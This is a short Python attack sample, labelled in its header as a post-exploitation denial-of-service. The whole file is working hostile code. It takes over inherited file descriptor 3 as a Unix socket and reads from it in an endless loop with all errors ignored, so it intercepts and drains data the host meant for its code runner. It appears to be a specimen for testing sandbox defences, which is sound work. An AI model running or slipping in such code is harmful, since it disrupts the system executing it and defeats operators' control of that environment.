# kind=dos; source: post-exploitation: reads from the host's socket what was meant for the runner
import os, socket
wire = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
while True:
    for read in (lambda: wire.recv(1 << 20), lambda: os.read(3, 1 << 20), lambda: wire.recvmsg(1 << 20)):
        try:
            read()
        except OSError:
            pass
